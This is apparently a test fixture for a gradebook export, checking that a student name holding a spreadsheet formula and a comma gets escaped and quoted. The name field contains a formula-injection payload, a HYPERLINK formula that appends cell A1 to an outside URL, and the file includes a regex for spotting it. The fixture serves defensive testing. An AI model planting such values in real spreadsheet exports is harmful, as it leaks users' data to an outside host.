"""A student whose name is a formula, with a comma in it.

number = 58
defence = "cells that could start a formula are escaped, names with commas are quoted"
by = "tests/test_gradebook.py"

[control]
prize = "text"
shows = '(?m)^"?=HYPERLINK'
name = '=HYPERLINK("https://example.org/?"&A1, "click"), Bobby'
"""


def build(field, folder):
    (folder / "arrays.py").write_text(field.honest)
    return folder
